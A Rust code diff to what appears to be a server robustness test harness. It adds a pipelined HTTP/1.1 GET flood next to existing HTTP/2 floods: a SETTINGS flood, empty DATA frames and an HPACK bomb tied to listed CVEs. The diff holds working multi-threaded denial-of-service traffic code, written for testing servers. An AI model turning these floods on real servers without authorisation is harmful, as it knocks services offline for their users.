@@ -17,6 +17,8 @@
 //!   headers without end. hyper's limits (pending resets, header list
 //!   size) close such a connection; it is made again at once, and the
 //!   probe is judged as under the floods above.
+//! - **HTTP/1.1 pipelining flood** (`Frames::Http1`, through the same
+//!   loop): small GETs pipelined without pause, replies read.
 //! - **SETTINGS flood** (CVE-2019-9515; ACKs never read), **empty DATA
 //!   frames** on an open stream (CVE-2019-9518), **HPACK bomb**
 //!   (CVE-2016-6581: one 4 KB dynamic-table entry named 12 000 times a
@@ -93,7 +95,7 @@ pub(super) fn flood_conns() -> usize {
 }
 
 /// How long a flood lasts.
-fn flood_time(cx: &Ctx) -> Duration {
+pub(super) fn flood_time(cx: &Ctx) -> Duration {
     Duration::from_secs(if cx.short { 6 } else { 20 })
 }
 
@@ -113,6 +115,9 @@ pub(super) enum Frames {
     /// to the dynamic table and names it 12 000 times (48 MB decoded;
     /// CVE-2016-6581).
     HpackBomb,
+    /// Not HTTP/2: small HTTP/1.1 GETs pipelined (the connection opened
+    /// without the preface, with ALPN http/1.1 over TLS).
+    Http1,
 }
 
 /// Frames per write.
@@ -153,6 +158,7 @@ impl Frames {
                 }
                 out.extend(frame(0, 0, 1, &[]).repeat(BATCH / 9));
             }
+            Frames::Http1 => return target::gets(target::small_path(Target::Http), BATCH / 40),
             Frames::HpackBomb => {
                 // Literal with incremental indexing, new name `x-bomb`:
                 // it becomes dynamic entry 62 (0xbe) at once.
@@ -177,10 +183,19 @@ impl Frames {
 pub(super) fn flood(cx: &Ctx, o: &mut Outcome, frames: Frames, read: bool) -> io::Result<()> {
     let conns = flood_conns();
     let until = Instant::now() + flood_time(cx);
-    let (t, addr, tls) = (cx.target, cx.addr, h2_tls(cx));
+    let h1 = matches!(frames, Frames::Http1);
+    let (t, addr) = (cx.target, cx.addr);
+    let tls = if h1 { cx.tls.clone() } else { h2_tls(cx) };
+    let open = move |tls: &Arc<rustls::ClientConfig>| {
+        if h1 {
+            target::connect(t, addr, tls, Duration::from_secs(2))
+        } else {
+            connect_h2(t, addr, tls)
+        }
+    };
     let mut threads = Vec::new();
     for _ in 0..conns {
-        let mut c = connect_h2(t, addr, &tls)?;
+        let mut c = open(&tls)?;
         let tls = tls.clone();
         threads.push(std::thread::spawn(move || {
             let (mut sent, mut closed) = (0u64, 0u64);
@@ -195,7 +210,7 @@ pub(super) fn flood(cx: &Ctx, o: &mut Outcome, frames: Frames, read: bool) -> io
                 }
                 closed += 1;
                 stream = 1;
-                match connect_h2(t, addr, &tls) {
+                match open(&tls) {
                     Ok(n) => c = n,
                     Err(_) => std::thread::sleep(Duration::from_millis(10)),
                 }
